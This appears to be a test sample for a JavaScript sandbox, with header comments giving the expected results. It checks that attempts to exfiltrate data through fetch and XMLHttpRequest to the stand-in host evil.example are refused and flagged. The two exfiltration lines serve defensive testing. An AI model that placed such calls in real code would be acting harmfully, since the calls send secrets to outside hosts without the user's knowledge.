// sample: Escape: exfiltration with fetch and XMLHttpRequest
// run-options: --force
// expect-outcome: ok
// expect-value: {"fetch":"refused","xhr":"refused"}
// expect-blocked: network@12, network@13
// expect-verdict: review
// expect-findings: network-fetch
//
// No network capability exists; both attempts are refused and recorded.
const tryIt = (f) => {
  try { f(); return "ran"; } catch (e) { return "refused"; } };
const viaFetch = tryIt(() => fetch("https://evil.example/c?d=" + "secret"));
const viaXhr = tryIt(() => new XMLHttpRequest().open("POST", "https://evil.example/"));
({ fetch: viaFetch, xhr: viaXhr });
